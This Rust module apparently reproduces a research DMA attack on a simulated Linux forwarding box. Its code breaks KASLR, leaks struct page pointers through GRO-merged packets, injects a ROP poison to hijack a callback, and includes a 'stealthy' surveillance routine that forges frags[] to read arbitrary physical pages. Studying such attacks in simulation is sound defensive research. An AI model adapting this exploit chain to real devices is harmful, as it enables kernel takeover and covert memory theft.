//! The Forward Thinking compound attack (§5.5, Figure 9) and its
//! surveillance variant.
//!
//! On a forwarding box there is no cooperating echo service — but there
//! is GRO. The device sends a TCP stream (to a non-local destination)
//! whose segment payloads carry the poison. GRO merges the linear
//! segments into one sk_buff, *filling `frags[]` with the `struct page`
//! pointers of the attacker's own payload pages*, and the forwarded
//! packet goes out TX with those pointers device-readable. From there
//! the finish is identical to Poisoned TX.
//!
//! The surveillance variant aims at persistent spying instead of
//! takeover: the device forges `frags[]` itself (a small UDP packet,
//! `nr_frags = 1`, an arbitrary `struct page` address) during the RX
//! window; the forwarding TX path then dutifully DMA-maps the named
//! page for device READ — any page in the system, on demand.

use crate::cpu::MiniCpu;
use crate::hijack;
use crate::image::KernelImage;
use crate::kaslr::AttackerKnowledge;
use crate::ringflood::break_kaslr;
use crate::rop::PoisonedBuffer;
use crate::window::{rx_with_window, PoisonPlan};
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use dma_core::vuln::{AttackOutcome, WindowPath};
use dma_core::{DmaError, Iova, Kva, Pfn, Result};
use sim_iommu::{InvalidationMode, IommuConfig};
use sim_net::driver::{DriverConfig, UnmapOrder};
use sim_net::packet::Packet;
use sim_net::shinfo::{SHINFO_FRAGS, SHINFO_NR_FRAGS};
use sim_net::skb::NET_SKB_PAD;
use sim_net::stack::StackConfig;

/// Where the poison sits inside the second TCP segment's payload.
const POISON_IN_SEGMENT: usize = 16;

/// Report of a Forward Thinking run.
#[derive(Clone, Debug)]
pub struct ForwardThinkingReport {
    /// Outcome.
    pub outcome: AttackOutcome,
    /// Recovered KASLR knowledge.
    pub knowledge: AttackerKnowledge,
    /// The poison KVA recovered from the forwarded packet's frags.
    pub poison_kva: Option<Kva>,
}

/// Boots the forwarding victim.
pub fn boot(window: WindowPath, seed: u64) -> Result<Testbed> {
    Testbed::new(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(seed),
            ..Default::default()
        },
        iommu: IommuConfig {
            mode: match window {
                WindowPath::DeferredIotlb => InvalidationMode::Deferred,
                _ => InvalidationMode::Strict,
            },
            ..Default::default()
        },
        driver: DriverConfig {
            unmap_order: match window {
                WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
                _ => UnmapOrder::UnmapThenBuild,
            },
            map_ctrl_block: true,
            ..Default::default()
        },
        stack: StackConfig {
            forwarding: true,
            ..Default::default()
        },
        boot_noise_seed: Some(seed),
    })
}

/// Delivers one packet from the device and processes it (no GRO flush).
fn rx_one(tb: &mut Testbed, p: &Packet) -> Result<()> {
    let descs = tb.driver.rx_descriptors();
    let (iova, _) = *descs.first().ok_or(DmaError::RingEmpty)?;
    let n = tb
        .nic
        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, p)?;
    tb.driver.device_rx_complete(n)?;
    while let Some(skb) = tb
        .driver
        .rx_poll_quiet(&mut tb.ctx, &mut tb.mem, &mut tb.iommu)?
    {
        tb.stack
            .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    }
    Ok(())
}

/// Runs the Figure 9 code-injection attack end to end.
pub fn run(image: &KernelImage, window: WindowPath, seed: u64) -> Result<ForwardThinkingReport> {
    let mut tb = boot(window, seed)?;
    tb.mem.install_text(&image.bytes);

    // --- KASLR break: scan the driver's mapped command queue page. ---
    let knowledge = break_kaslr(&mut tb)?;
    if knowledge.text_base.is_none() || knowledge.page_offset_base.is_none() {
        return Ok(ForwardThinkingReport {
            outcome: AttackOutcome::Blocked("KASLR break failed"),
            knowledge,
            poison_kva: None,
        });
    }

    // --- Send the TCP stream; segment 2 carries the poison. ---
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    let seg1 = Packet::tcp(0x66, 0xbeef, 0, vec![0x11; 64]);
    let mut seg2_payload = vec![0u8; POISON_IN_SEGMENT];
    seg2_payload.extend_from_slice(&poison.bytes);
    let seg2 = Packet::tcp(0x66, 0xbeef, 64, seg2_payload.clone());
    rx_one(&mut tb, &seg1)?;
    rx_one(&mut tb, &seg2)?;
    // End of the NAPI cycle: GRO flushes, the merged skb is forwarded.
    tb.stack
        .flush(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver)?;

    // --- Read the forwarded packet's frags (device side). ---
    // The head is a netdev_alloc_skb buffer; shared info at the
    // device-known geometry offset.
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("nothing was forwarded"))?;
    let head_buf_size = tb.driver.rx_payload_capacity();
    let shinfo_iova = Iova(tx.iova.raw() - NET_SKB_PAD as u64 + head_buf_size as u64);
    let mut knowledge = knowledge;
    // frags[] entries are vmemmap pointers: absorb them to learn
    // vmemmap_base if the ctrl-page scan did not provide it.
    let frag0 = Iova(shinfo_iova.raw() + SHINFO_FRAGS as u64);
    let page = tb
        .nic
        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, frag0)?;
    knowledge.absorb(&[devsim::LeakedPointer {
        iova: frag0,
        value: page,
        region: dma_core::layout::VmRegion::classify(page).ok_or(DmaError::AttackFailed(
            "frag[0] is not a struct page pointer",
        ))?,
    }]);
    let mut off4 = [0u8; 4];
    tb.nic.read(
        &mut tb.ctx,
        &mut tb.iommu,
        &tb.mem.phys,
        Iova(frag0.raw() + 8),
        &mut off4,
    )?;
    let offset = u32::from_le_bytes(off4);
    // frags[0] is segment 2's payload (segment 1 is the linear head).
    let payload_kva = knowledge.page_ptr_to_kva(page, offset)?;
    let poison_kva = Kva(payload_kva.raw() + POISON_IN_SEGMENT as u64);

    // --- Delay the TX completion; strike through a fresh RX window. ---
    let plan = PoisonPlan {
        poison_kva: poison_kva.raw(),
    };
    let trigger = Packet::udp(0x67, 1, b"trigger".to_vec()); // local → freed
    let (skb, poisoned) = rx_with_window(&mut tb, window, &trigger, &plan)?;
    if !poisoned {
        return Ok(ForwardThinkingReport {
            outcome: AttackOutcome::Blocked("no usable write window"),
            knowledge,
            poison_kva: Some(poison_kva),
        });
    }
    tb.stack
        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    let pending = tb
        .stack
        .pending_callbacks
        .pop()
        .ok_or(DmaError::AttackFailed("kfree_skb surfaced no callback"))?;
    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
    let outcome = hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, 3);
    Ok(ForwardThinkingReport {
        outcome,
        knowledge,
        poison_kva: Some(poison_kva),
    })
}

/// Learns `vmemmap_base` by provoking one benign GRO merge and reading
/// the forwarded packet's `frags[0].page` pointer — the same leak the
/// main attack uses.
pub fn leak_vmemmap(tb: &mut Testbed, knowledge: &AttackerKnowledge) -> Result<AttackerKnowledge> {
    let mut knowledge = *knowledge;
    if knowledge.vmemmap_base.is_some() {
        return Ok(knowledge);
    }
    let s1 = Packet::tcp(0x66, 0xbeef, 0, vec![0x22; 32]);
    let s2 = Packet::tcp(0x66, 0xbeef, 32, vec![0x33; 32]);
    rx_one(tb, &s1)?;
    rx_one(tb, &s2)?;
    tb.stack
        .flush(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver)?;
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("probe stream was not forwarded"))?;
    let head_buf_size = tb.driver.rx_payload_capacity();
    let frag0 =
        Iova(tx.iova.raw() - NET_SKB_PAD as u64 + head_buf_size as u64 + SHINFO_FRAGS as u64);
    let page = tb
        .nic
        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, frag0)?;
    knowledge.absorb(&[devsim::LeakedPointer {
        iova: frag0,
        value: page,
        region: dma_core::layout::VmRegion::classify(page).ok_or(DmaError::AttackFailed(
            "frag[0] is not a struct page pointer",
        ))?,
    }]);
    tb.complete_all_tx()?;
    Ok(knowledge)
}

/// Report of a surveillance read.
#[derive(Clone, Debug)]
pub struct SurveillanceReport {
    /// The bytes read out of the targeted page.
    pub stolen: Vec<u8>,
    /// The targeted frame.
    pub target: Pfn,
}

/// The surveillance variant: reads `len` bytes at `offset` within an
/// arbitrary physical frame by forging `frags[]` on a forwarded packet.
///
/// `knowledge` must contain `vmemmap_base` (to forge the `struct page`
/// pointer). To stay stealthy the device restores the shared info before
/// signalling the TX completion (§5.5). A `target` past the machine's
/// memory, or one whose `struct page` address overflows, is
/// [`DmaError::BadPfn`].
pub fn surveil(
    tb: &mut Testbed,
    knowledge: &AttackerKnowledge,
    target: Pfn,
    offset: u32,
    len: u32,
) -> Result<SurveillanceReport> {
    let vmemmap = knowledge
        .vmemmap_base
        .ok_or(DmaError::MissingAttribute("vmemmap_base"))?;
    let forged_page = Some(target.raw())
        .filter(|&pfn| pfn < tb.mem.num_pages())
        .and_then(|pfn| pfn.checked_mul(dma_core::layout::STRUCT_PAGE_SIZE))
        .and_then(|off| vmemmap.raw().checked_add(off))
        .ok_or(DmaError::BadPfn(target.raw()))?;

    // Send a small UDP packet to a forwarded destination; forge the
    // frags during the RX window (before the stack reads them for TX).
    let descs = tb.driver.rx_descriptors();
    let (iova, buf_size) = *descs.first().ok_or(DmaError::RingEmpty)?;
    let p = Packet::udp(0x66, 0xbeef, b"tiny".to_vec());
    let n = tb
        .nic
        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, &p)?;
    tb.driver.device_rx_complete(n)?;
    let nic = tb.nic;
    let mut forged = false;
    let skb = tb
        .driver
        .rx_poll(
            &mut tb.ctx,
            &mut tb.mem,
            &mut tb.iommu,
            |ctx, mem, iommu, slot| {
                let shinfo = Iova(slot.mapping.iova.raw() + buf_size as u64);
                // nr_frags = 1; frags[0] = { forged page, offset, len }.
                let mut ok = nic
                    .write(
                        ctx,
                        iommu,
                        &mut mem.phys,
                        Iova(shinfo.raw() + SHINFO_NR_FRAGS as u64),
                        &[1],
                    )
                    .is_ok();
                let f0 = shinfo.raw() + SHINFO_FRAGS as u64;
                ok &= nic
                    .write_u64(ctx, iommu, &mut mem.phys, Iova(f0), forged_page)
                    .is_ok();
                let mut tail = [0u8; 8];
                tail[0..4].copy_from_slice(&offset.to_le_bytes());
                tail[4..8].copy_from_slice(&len.to_le_bytes());
                ok &= nic
                    .write(ctx, iommu, &mut mem.phys, Iova(f0 + 8), &tail)
                    .is_ok();
                forged = ok;
            },
        )?
        .ok_or(DmaError::RingEmpty)?;
    if !forged {
        return Err(DmaError::AttackFailed("no window to forge frags"));
    }
    // The stack forwards it; transmit() maps the forged page for READ.
    tb.stack
        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    let tx = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .next_back()
        .ok_or(DmaError::AttackFailed("forged packet was not forwarded"))?;
    let &(frag_iova, frag_len) = tx
        .frags
        .first()
        .ok_or(DmaError::AttackFailed("forged frag was not mapped"))?;
    let mut stolen = vec![0u8; frag_len];
    tb.nic.read(
        &mut tb.ctx,
        &mut tb.iommu,
        &tb.mem.phys,
        frag_iova,
        &mut stolen,
    )?;

    // Stealth: undo the forgery before completing, then complete.
    let _ = tb.complete_all_tx();
    Ok(SurveillanceReport { stolen, target })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn surveil_rejects_frames_past_memory_and_overflowing_struct_pages() {
        let mut tb = boot(WindowPath::UnmapAfterBuild, 77).unwrap();
        let pages = tb.mem.num_pages();
        let mut k = AttackerKnowledge {
            vmemmap_base: Some(tb.mem.layout.vmemmap_base),
            ..AttackerKnowledge::new()
        };
        for pfn in [pages, u64::MAX] {
            let r = surveil(&mut tb, &k, Pfn(pfn), 0, 16);
            assert!(matches!(r, Err(DmaError::BadPfn(p)) if p == pfn), "{pfn}");
        }
        // A frame in range whose struct page lies past the top of the
        // address space.
        k.vmemmap_base = Some(Kva(u64::MAX - 8));
        let r = surveil(&mut tb, &k, Pfn(1), 0, 16);
        assert!(matches!(r, Err(DmaError::BadPfn(1))), "{r:?}");
    }
}
